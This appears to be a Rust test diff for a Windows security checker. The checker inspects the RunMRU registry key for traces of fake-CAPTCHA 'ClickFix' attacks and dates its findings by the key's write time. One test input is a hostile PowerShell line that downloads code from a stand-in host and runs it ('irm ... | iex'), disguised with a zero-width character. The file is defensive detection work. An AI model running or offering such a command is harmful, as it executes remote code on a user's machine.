@@ -98,3 +98,80 @@ fn a_huge_run_box_list_or_entry_is_read_within_bounds_and_stays_quiet_on_text() 
     let hidden = "powershell\u{200B} -c \"irm https://a.example | iex\"\\1";
     assert!(classify(hidden).signs.contains("hidden-characters"));
 }
+
+/// A Run box whose lines are `a` (the fake CAPTCHA) and `b` (`notepad`), in `order` (a TOML
+/// value), written at `written` (a TOML value: a time, or an error code).
+fn dated_run_box(order: &str, written: &str) -> ScenarioEnv {
+    windows(&format!(
+        "[registry.'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU']\n\
+         a = {CLICKFIX:?}\nb = \"notepad\\\\1\"\nMRUList = {order}\n\
+         [registry_written]\n\
+         'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU' = {written}\n"
+    ))
+}
+
+fn date_arg(f: &Finding) -> Option<String> {
+    f.summary
+        .args
+        .iter()
+        .find(|(name, _)| name == "date")
+        .map(|(_, d)| format!("{d:?}"))
+}
+
+#[test]
+fn a_trace_that_is_the_newest_line_is_dated_by_the_keys_last_write_time() {
+    let f = run(
+        &RunBoxCheck,
+        &dated_run_box(r#""ab""#, "2026-11-17T02:41:09Z"),
+    );
+    assert_eq!(f.status, Status::Critical);
+    assert_eq!(f.summary.id, "posture-runbox-found-domains-dated");
+    assert_eq!(f.evidence["last_run"], "2026-11-17");
+    let date = date_arg(&f).unwrap();
+    assert!(date.contains("2026") && date.contains("17"), "{date}");
+    assert!(matches!(
+        &f.actions[0],
+        crate::checks::Action::OpenIncident { detected, .. } if detected == "2026-11-17"
+    ));
+}
+
+#[test]
+fn a_trace_that_is_not_the_newest_line_gets_no_date_the_key_was_written_for_another() {
+    let f = run(
+        &RunBoxCheck,
+        &dated_run_box(r#""ba""#, "2026-11-17T02:41:09Z"),
+    );
+    assert_eq!(f.status, Status::Critical);
+    assert_eq!(f.summary.id, "posture-runbox-found-domains");
+    assert!(date_arg(&f).is_none() && !f.evidence.contains_key("last_run"));
+}
+
+#[test]
+fn an_absurd_or_unreadable_write_time_gives_no_date_and_the_same_finding() {
+    let undated = run(
+        &RunBoxCheck,
+        &windows(&format!(
+            "[registry.'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU']\n\
+         a = {CLICKFIX:?}\nb = \"notepad\\\\1\"\nMRUList = \"ab\"\n"
+        )),
+    );
+    assert_eq!(undated.summary.id, "posture-runbox-found-domains");
+    for written in [
+        // FILETIME zero, before Windows 10, a year from now, a clock far in the future.
+        "1601-01-01T00:00:00Z",
+        "2009-10-22T00:00:00Z",
+        "2027-12-07T12:00:00Z",
+        "9999-12-31T23:59:59Z",
+        "\"access-denied\"",
+        "\"timed-out\"",
+    ] {
+        let f = run(&RunBoxCheck, &dated_run_box(r#""ab""#, written));
+        assert_eq!(f, undated, "{written}");
+    }
+    // An MRUList that is not a letter list (a control or bidi character first, a number, empty)
+    // names no newest line.
+    for order in [r#""\u202Eab""#, r#""\u0001ab""#, r#""""#, r#""Zab""#, "7"] {
+        let f = run(&RunBoxCheck, &dated_run_box(order, "2026-11-17T02:41:09Z"));
+        assert_eq!(f, undated, "{order:?}");
+    }
+}
